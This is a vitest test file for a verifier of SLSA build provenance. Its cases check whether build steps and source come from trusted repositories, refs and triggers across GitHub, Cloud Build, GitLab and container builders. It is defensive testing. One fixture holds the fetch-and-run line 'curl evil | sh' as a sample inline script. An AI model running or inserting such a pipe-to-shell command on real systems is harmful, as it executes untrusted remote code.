// Where the source and the build steps came from, and what else a build was told, as provenance of every version states it.
import { describe, expect, it } from 'vitest';
import type { Check } from '../../src/domain/evidence/verification.ts';
import { slsaClaims } from '../../src/evidence/formats/attestation/slsa.ts';
import type { SignedBy } from '../../src/trust/signed-by.ts';
import { checkSource } from '../../src/trust/source.ts';
import { processorMs } from '../processor-time.ts';
import { newKey } from './signing.ts';
import { compiledOf, SOURCE } from './trusted.ts';

const EVIL = 'https://github.com/evil/steps';
const LIB = 'https://github.com/acme/pipelines';
const MAIN = 'refs/heads/main';
const trust = compiledOf({
  keys: [{ name: 'one', pem: newKey().pem, valid_from: '2026-01-01T00:00:00Z' }],
  sources: [
    { repository: SOURCE, refs: [MAIN] },
    { repository: LIB, refs: ['refs/tags/v1'] },
  ],
});
const by: SignedBy = { identities: [], exact: [], keys: ['one'], subject: null, claims: null };

const codeOf = ({ held, code }: Check) => (held ? null : code);
const judged = (version: 'v0.1' | 'v0.2' | 'v1', predicate: object, any: boolean) =>
  codeOf(
    checkSource(
      slsaClaims(version, predicate, () => {}),
      predicate,
      by,
      trust,
      any,
    ),
  );

const GCB = 'https://cloud.google.com/build/gcb-buildtypes/google-worker/v1';
const GITHUB_TYPE = 'https://actions.github.io/buildtypes/workflow/v1';
const CONTAINER = 'https://slsa.dev/container-based-build/v0.1?draft';
const GITLAB = 'https://gitlab.com/gitlab-org/gitlab-runner/-/blob/2d2f2f6/PROVENANCE.md';
const GITLAB_JOB = 'https://docs.gitlab.com/ci/pipeline_security/slsa/provenance_v1';
const DELEGATOR = 'https://github.com/slsa-framework/slsa-github-generator/delegator-generic@v0';
const OWN = 'https://ci.example.com/pipeline/v1';

const source = { repository: `git+${SOURCE}`, ref: MAIN };
const workflow = { repository: SOURCE, ref: MAIN, path: '.github/workflows/release.yml' };
const uri = `git+${SOURCE}@${MAIN}`;
const dependencies = [{ uri, digest: { gitCommit: 'a'.repeat(40) } }];
const v1 = (buildType: string, externalParameters: unknown) => ({
  buildDefinition: { buildType, externalParameters, resolvedDependencies: dependencies },
  runDetails: { builder: { id: 'https://builder.example' } },
});

type Case = [what: string, type: string, parameters: unknown, known: string | null, any?: string | null];

describe('SLSA v1 provenance', () => {
  it.each<Case>([
    ['a workflow of GitHub', GITHUB_TYPE, { workflow }, null],
    ['with inputs and variables', GITHUB_TYPE, { workflow, inputs: { x: 1 }, vars: { y: '2' } }, null],
    ['of a release', GITHUB_TYPE, { workflow, release: { name: 'v1' } }, null],
    ['of Cloud Build', GCB, { sourceToBuild: source, buildConfigSource: { ...source, path: 'cloudbuild.yaml' } }, null],
    ['with substitutions', GCB, { buildConfigSource: source, substitutions: { _X: 'y' } }, null],
    [
      'with steps of another trusted repository',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: LIB, ref: 'refs/tags/v1' } },
      null,
    ],
    [
      'with steps at another ref of it',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: LIB, ref: MAIN } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'with steps of it at no ref',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: LIB } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'with steps of the source at no ref',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: SOURCE } },
      null,
    ],
    [
      'with steps of the source at a commit',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: SOURCE, ref: 'a'.repeat(40) } },
      null,
    ],
    [
      'with steps of the source at the commit of a fork',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: SOURCE, ref: 'b'.repeat(40) } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'with steps of the source at the commit of a fork as a digest',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: SOURCE, digest: { sha1: 'b'.repeat(40) } } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'with a file of the source at the commit of a fork',
      GCB,
      { sourceToBuild: source, buildConfigSource: { ...source, path: `git+${SOURCE}@${'b'.repeat(40)}` } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'with another branch of no repository',
      GCB,
      { sourceToBuild: { ref: 'refs/heads/evil' }, buildConfigSource: source },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with a workflow at another branch of no repository',
      GITHUB_TYPE,
      { workflow: { ref: 'refs/pull/5/merge', path: 'x.yml' } },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with a folder elsewhere',
      GCB,
      { sourceToBuild: { ...source, dir: `${EVIL}/x` } },
      'source_unknown',
      'source_unknown',
    ],
    ['with a folder', GCB, { buildConfigSource: source, sourceToBuild: { ...source, dir: 'app' } }, null],
    ['with a folder above', GCB, { sourceToBuild: { ...source, dir: '../x' } }, 'source_malformed', 'source_malformed'],
    [
      'with steps at another branch',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: SOURCE, ref: 'refs/heads/evil' } },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      "with somebody else's steps",
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: EVIL, ref: MAIN } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'with steps by SSH',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: 'git@github.com:evil/steps' } },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with steps of a repository in short',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: 'evil/steps' } },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with steps of a repository that is no text',
      GCB,
      { sourceToBuild: source, buildConfigSource: { repository: [EVIL] } },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with steps that are a list',
      GCB,
      { sourceToBuild: source, buildConfigSource: [{ repository: EVIL }] },
      'source_malformed',
      'source_malformed',
    ],
    [
      'with steps of a URL',
      GCB,
      { sourceToBuild: source, buildConfigSource: { url: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'with a second workflow',
      GCB,
      { sourceToBuild: source, workflow: { ...workflow, repository: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'with a file elsewhere',
      GCB,
      { sourceToBuild: source, buildConfigSource: { ...source, path: `${EVIL}/raw/x.yaml` } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'with a file above',
      GCB,
      { sourceToBuild: source, buildConfigSource: { ...source, path: '../x.yaml' } },
      'source_malformed',
      'source_malformed',
    ],
    ['with two refs', GCB, { sourceToBuild: { ...source, branch: 'refs/heads/evil' } }, 'ref_unknown', 'ref_unknown'],
    ['with a field more in the source', GCB, { sourceToBuild: { ...source, overlay: 'x' } }, 'parameter_unknown', null],
    ['with a script', GITHUB_TYPE, { workflow, script: 'curl evil | sh' }, 'build_steps_inline', null],
    ['with another source', GITHUB_TYPE, { workflow, overrideSource: EVIL }, 'source_unknown', 'source_unknown'],
    [
      'with another source that is trusted',
      GITHUB_TYPE,
      { workflow, overrideSource: SOURCE },
      'parameter_unknown',
      null,
    ],
    ['with an unknown parameter', GITHUB_TYPE, { workflow, anything: 1 }, 'parameter_unknown', null],
    ['with one in another case', GITHUB_TYPE, { workflow, Inputs: {} }, 'parameter_unknown', null],
    [
      'with a workflow in another case',
      GITHUB_TYPE,
      { workflow, Workflow: { ...workflow, repository: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    ['with one that all objects have', GITHUB_TYPE, { workflow, constructor: 1 }, 'parameter_unknown', null],
    ['with parameters that are a list', GITHUB_TYPE, ['x'], 'parameter_unknown', null],
    ['with no parameters', GITHUB_TYPE, undefined, 'build_steps_unstated', null],
    ['with no workflow', GITHUB_TYPE, { inputs: { x: 1 } }, 'build_steps_unstated', null],
    ['of Cloud Build that was given its steps by hand', GCB, {}, 'build_steps_unstated', null],
    ['of Cloud Build with a source and no steps', GCB, { sourceToBuild: source }, 'build_steps_unstated', null],
    [
      'of Cloud Build with steps inline',
      GCB,
      { sourceToBuild: source, buildConfig: { steps: [1] } },
      'build_steps_inline',
      null,
    ],
    [
      'of Cloud Build with steps that it found by itself',
      GCB,
      { buildConfigSource: { ...source, pathAutodetect: true } },
      null,
    ],
    ['of a container without steps', CONTAINER, { source: { uri } }, 'build_steps_unstated', null],
    ['of GitLab without its source', GITLAB, { entryPoint: 'x' }, 'build_steps_unstated', null],
    ['of a container', CONTAINER, { source: { uri }, builderImage: { uri: 'x' }, configPath: 'x.toml' }, null],
    [
      'of a container with the steps that were read there',
      CONTAINER,
      { source: { uri }, configPath: 'x.toml', buildConfig: { Command: ['sh'] } },
      null,
    ],
    [
      'of a container with steps elsewhere',
      CONTAINER,
      { source: { uri }, configPath: `git+${EVIL}@${MAIN}` },
      'source_unknown',
      'source_unknown',
    ],
    [
      'of a container with steps elsewhere as an object',
      CONTAINER,
      { source: { uri }, configPath: { uri: `git+${EVIL}@${MAIN}` } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'of a container with steps elsewhere as the value of an object',
      CONTAINER,
      { source: { uri }, configPath: { value: { uri: EVIL } } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'of a container with steps elsewhere as a list',
      CONTAINER,
      { source: { uri }, configPath: [EVIL] },
      'source_malformed',
      'source_malformed',
    ],
    ['of a delegator', DELEGATOR, { inputs: { artifact: 'x' }, vars: {} }, null],
    [
      'of a delegator of old',
      DELEGATOR,
      { source: { artifact: { uri } }, workflowPath: { value: '.github/workflows/x.yml' } },
      null,
    ],
    [
      'of a delegator with another ref beside its source',
      DELEGATOR,
      { source: { artifact: { uri }, ref: 'refs/heads/evil' } },
      'source_malformed',
      'source_malformed',
    ],
    [
      'of a delegator with a repository beside its workflow',
      DELEGATOR,
      { workflowPath: { value: '.github/workflows/x.yml', repository: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    [
      "of a delegator with somebody's workflow",
      DELEGATOR,
      { source: { artifact: { uri } }, workflowPath: { value: 'evil/steps/.github/workflows/x.yml@main' } },
      'source_unknown',
      'source_unknown',
    ],
    ['of GitLab', GITLAB, { source: SOURCE, entryPoint: 'build-job', CI: '', variables: { CI: 'true' } }, null],
    [
      'of GitLab with a file of another project',
      GITLAB,
      { source: SOURCE, entryPoint: 'x', variables: { CI_CONFIG_PATH: 'ci/x.yml@evil/steps' } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'of GitLab with a file of another project at a ref, as runners of old have it',
      GITLAB,
      { source: SOURCE, CI_CONFIG_PATH: 'x.yml@acme/pipelines:refs/heads/evil' },
      'ref_unknown',
      'ref_unknown',
    ],
    [
      'of GitLab with a file of a trusted project',
      GITLAB,
      { source: SOURCE, variables: { CI_CONFIG_PATH: 'ci/x.yml@acme/pipelines:refs/tags/v1' } },
      null,
    ],
    [
      'of GitLab with a file that is no text',
      GITLAB,
      { source: SOURCE, CI_CONFIG_PATH: { uri: EVIL } },
      'source_malformed',
      'source_malformed',
    ],
    ['of GitLab itself', GITLAB_JOB, { source: SOURCE, entryPoint: 'build: [amd64]', variables: { CI: 'true' } }, null],
    [
      'of GitLab with a file elsewhere',
      GITLAB,
      { source: SOURCE, CI_CONFIG_PATH: `${EVIL}/x.yml` },
      'source_unknown',
      'source_unknown',
    ],
    ['of a type that is not known', OWN, {}, 'build_type_unknown', null],
    ["of a type that is not known, with somebody's source", OWN, { source: EVIL }, 'source_missing', 'source_missing'],
    [
      "of a type that is not known, with somebody's definition",
      OWN,
      { build_definition: { uri: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    [
      "of a type that is not known, with somebody's configuration",
      OWN,
      { 'config-source': { URI: EVIL } },
      'source_unknown',
      'source_unknown',
    ],
    [
      "of a type that is not known, with somebody's workflow",
      OWN,
      { workflow: 'evil/steps/.github/workflows/x.yml@refs/heads/main' },
      'source_unknown',
      'source_unknown',
    ],
    [
      'of a type that is not known, with a workflow of its own',
      OWN,
      { workflow: '.github/workflows/x.yml' },
      'build_type_unknown',
      null,
    ],
    ...[
      { repoUrl: EVIL },
      { sources: [SOURCE, EVIL] },
      { gitRepository: { url: EVIL } },
      { source_repo: `git+${EVIL}@${MAIN}` },
      { build_config_uri: EVIL },
      { ci: { repository: EVIL } },
      { ci: { entryPoint: `${EVIL}/x.yml` } },
      { builds: [{ git: { remote: EVIL } }] },
      { git: { location: EVIL } },
      { pipelineRef: { resolver: 'git', params: [{ name: 'url', value: EVIL }] } },
      { runSpec: { pipelineRef: { resolver: 'git', params: [{ name: 'url', value: EVIL }] } } },
      { params: [{ name: 'git-url', value: EVIL }] },
    ].map((one): Case => {
      const text = JSON.stringify(one);
      return [`of a type that is not known, with ${text}`, OWN, one, 'source_unknown', 'source_unknown'];
    }),
    ...[
      { ci: { repository: { url: SOURCE, ref: 'refs/heads/evil' } } },
      { gitRepository: { url: SOURCE, branch: 'refs/heads/evil' } },
    ].map((one): Case => {
      const text = JSON.stringify(one);
      return [`of a type that is not known, with ${text}`, OWN, one, 'ref_unknown', 'ref_unknown'];
    }),
    ...[
      { sources: [SOURCE], ci: { repoUrl: `git+${SOURCE}` } },
      { imageRepository: 'registry.example.com/acme/app', mavenRepository: 'https://repo.example.com/m2' },
      { registry: { url: 'https://registry.example.com' }, checkout: true, vcs: 'git', depth: 7 },
      { steps: [{ name: 'fetch', source: 'https://example.com/tool.tgz' }] },
    ].map((one): Case => {
      const text = JSON.stringify(one);
      return [`of a type that is not known, with ${text}`, OWN, one, 'build_type_unknown', null];
    }),
    ['of no type', '', { workflow }, 'build_type_unknown', null],
  ])('%s is judged by what it was told', (_, type, parameters, known, any = known) => {
    expect([judged('v1', v1(type, parameters), false), judged('v1', v1(type, parameters), true)]).toEqual([known, any]);
  });
});

describe('SLSA v0.2 and v0.1 provenance', () => {
  const GENERIC = 'https://github.com/slsa-framework/slsa-github-generator/generic@v1';
  const configSource = { uri, digest: { sha1: 'a'.repeat(40) }, entryPoint: '.github/workflows/release.yml' };
  const v02 = (buildType: string, rest: object, invocation: object = {}) => ({
    ...{ builder: { id: 'https://builder.example' }, buildType, materials: dependencies },
    ...{ invocation: { configSource, ...invocation }, ...rest },
  });
  it.each<[what: string, predicate: object, known: string | null, any?: string | null]>([
    ['of the generator', v02(GENERIC, {}), null],
    [
      'with inputs of its event',
      v02(GENERIC, {}, { parameters: { event_inputs: { x: 1 } }, environment: { y: 2 } }),
      null,
    ],
    ['with another parameter', v02(GENERIC, {}, { parameters: { script: 'x' } }), 'build_steps_inline', null],
    ['with steps inline', v02(GENERIC, { buildConfig: { steps: [{ command: ['sh'] }] } }), 'build_steps_inline', null],
    [
      'of Go with the steps that were read from the source',
      v02(GENERIC.replace('generic', 'go'), { buildConfig: { steps: [1] } }),
      null,
    ],
    ['with no steps inline', v02(GENERIC, { buildConfig: {} }), null],
    [
      "with somebody else's configuration",
      v02(GENERIC, {}, { configSource: { uri: `git+${EVIL}@${MAIN}` } }),
      'source_unknown',
      'source_unknown',
    ],
    [
      "with somebody else's beside it",
      v02(GENERIC, {}, { config_source: { uri: EVIL } }),
      'source_unknown',
      'source_unknown',
    ],
    [
      "with somebody else's entry point",
      v02(
        GENERIC,
        {},
        { configSource: { ...configSource, entryPoint: 'evil/steps/.github/workflows/x.yml@refs/heads/main' } },
      ),
      'source_unknown',
      'source_unknown',
    ],
    [
      'with its own entry point in full',
      v02(
        GENERIC,
        {},
        { configSource: { ...configSource, entryPoint: 'acme/payment-api/.github/workflows/x.yml@refs/heads/main' } },
      ),
      null,
    ],
    [
      'with an entry point elsewhere',
      v02(GENERIC, {}, { configSource: { ...configSource, entryPoint: `${EVIL}/x.yaml` } }),
      'source_unknown',
      'source_unknown',
    ],
    ['with a field more in its invocation', v02(GENERIC, {}, { overrides: 'x' }), 'parameter_unknown', null],
    [
      'with steps inline in another spelling',
      { ...v02(GENERIC, {}), build_config: { steps: [1] } },
      'build_steps_inline',
      null,
    ],
    [
      'with an invocation in another spelling',
      { ...v02(GENERIC, {}), Invocation: { config_source: { uri: EVIL } } },
      'source_unknown',
      'source_unknown',
    ],
    [
      'with a field more in its invocation that names a source',
      v02(GENERIC, {}, { overrides: { repository: EVIL } }),
      'source_unknown',
      'source_unknown',
    ],
    [
      'of a type that is not known, with one that is beside it',
      { ...v02('tekton.dev/v1/TaskRun', {}), buildDefinition: { buildType: GITHUB_TYPE } },
      'build_type_unknown',
      null,
    ],
    ['of Tekton', v02('tekton.dev/v1/TaskRun', {}), 'build_type_unknown', null],
  ])('%s is judged by what it was told', (_, predicate, known, any = known) => {
    expect([judged('v0.2', predicate, false), judged('v0.2', predicate, true)]).toEqual([known, any]);
  });

  const recipe = { type: 'https://cloudbuild.googleapis.com/CloudBuildYaml@v0.1', definedInMaterial: 0 };
  const v01 = (rest: object) => ({ builder: { id: 'x' }, recipe: { ...recipe, ...rest }, materials: dependencies });
  it.each<[what: string, predicate: object, known: string | null, any?: string | null]>([
    ['of Cloud Build', v01({ entryPoint: 'cloudbuild.yaml' }), 'build_type_unknown', null],
    ['with steps', v01({ arguments: { steps: [{ name: 'x' }] } }), 'build_type_unknown', null],
    ['with an entry point elsewhere', v01({ entryPoint: `${EVIL}/x.yaml` }), 'source_unknown', 'source_unknown'],
    ['with one as a list', v01({ entryPoint: [EVIL] }), 'source_malformed', 'source_malformed'],
    ['with one as an object', v01({ entryPoint: { uri: EVIL } }), 'source_unknown', 'source_unknown'],
    ['with one in another spelling', v01({ entry_point: `${EVIL}/x` }), 'source_unknown', 'source_unknown'],
    ['with a field more that names a source', v01({ source: EVIL }), 'source_unknown', 'source_unknown'],
    [
      'with a recipe in another spelling',
      { ...v01({}), Recipe: { entryPoint: `${EVIL}/x` } },
      'source_unknown',
      'source_unknown',
    ],
  ])('of v0.1 %s is judged by what it was told', (_, predicate, known, any = known) => {
    expect([judged('v0.1', predicate, false), judged('v0.1', predicate, true)]).toEqual([known, any]);
  });
});

describe('a text of a million letters', () => {
  const texts = ['://', 'a/', '@', '@a/', 'x@a/', '#://', ' a'].map((one) => one.repeat(300_000));
  it.each(['source', 'repoUrl', 'entryPoint', 'CI_CONFIG_PATH', 'pipelineRef'])(
    'is no address and no file, which is told at once: %s',
    async (name) => {
      const ms = await processorMs(() => {
        for (const text of [...texts, ...texts.map((one) => `${one}@`)]) {
          for (const value of [text, { url: text }, { value: text }, { path: text }])
            judged('v1', v1(GITHUB_TYPE, { workflow, [name]: value }), true);
          expect(judged('v1', v1(GITHUB_TYPE, { workflow, [name]: text }), true)).toBe('source_malformed');
        }
      });
      expect(ms).toBeLessThan(5_000);
    },
  );
});

describe('external parameters in another spelling', () => {
  it.each(['external_parameters', 'ExternalParameters'])('are looked through: %s', (name) => {
    const parameters = { workflow: { ...workflow, repository: EVIL } };
    const definition = { buildType: GITHUB_TYPE, [name]: parameters, resolvedDependencies: dependencies };
    for (const spelling of ['buildDefinition', 'build_definition']) {
      const predicate = { ...v1(GITHUB_TYPE, undefined), [spelling]: definition };
      expect(judged('v1', predicate, true), spelling).toBe('source_unknown');
    }
  });
});

describe('a predicate that is signed by a key', () => {
  const started = (event_name: string) => ({
    ...v1(GITHUB_TYPE, { workflow }),
    buildDefinition: {
      ...v1(GITHUB_TYPE, { workflow }).buildDefinition,
      internalParameters: { github: { event_name } },
    },
  });
  it.each([
    ['push', null],
    ['workflow_dispatch', null],
    ['pull_request', 'trigger_not_trusted'],
    ['pull_request_target', 'trigger_not_trusted'],
    ['issue_comment', 'trigger_not_trusted'],
    ['Push', 'trigger_not_trusted'],
  ])('says that it was started by %s', (event, code) => {
    expect(judged('v1', started(event), false)).toBe(code);
  });

  const places: [where: string, predicate: object][] = [
    [
      'a second place',
      {
        buildDefinition: { internalParameters: { github: { event_name: 'push' }, GITHUB_EVENT_NAME: 'pull_request' } },
      },
    ],
    ['a list', { buildDefinition: { internalParameters: { github: { event_name: ['pull_request'] } } } }],
    [
      'a variable of GitLab',
      { buildDefinition: { externalParameters: { variables: { CI_PIPELINE_SOURCE: 'merge_request_event' } } } },
    ],
    [
      'a variable of GitLab that another belies',
      {
        buildDefinition: {
          externalParameters: { variables: { CI_PIPELINE_SOURCE: 'push', CI_MERGE_REQUEST_IID: '5' } },
        },
      },
    ],
    [
      'a variable of GitLab without its value',
      { buildDefinition: { externalParameters: { CI_MERGE_REQUEST_ID: '', CI_PIPELINE_SOURCE: '' } } },
    ],
    [
      'a variable of GitLab of an external request',
      { buildDefinition: { externalParameters: { CI_EXTERNAL_PULL_REQUEST_IID: '' } } },
    ],
  ];
  it.each(places)('says that a request started it in %s', (_, { buildDefinition }: { buildDefinition?: object }) => {
    const base = v1(GITLAB_JOB, { source: SOURCE }).buildDefinition;
    expect(judged('v1', { buildDefinition: { ...base, ...buildDefinition } }, true)).toBe('trigger_not_trusted');
  });

  it('says that a pipeline of GitLab was started by those who may', () => {
    const variables = { CI_PIPELINE_SOURCE: 'push', CI_OPEN_MERGE_REQUESTS: 'acme/payment-api!5' };
    expect(judged('v1', v1(GITLAB_JOB, { source: SOURCE, variables }), false)).toBeNull();
  });
});
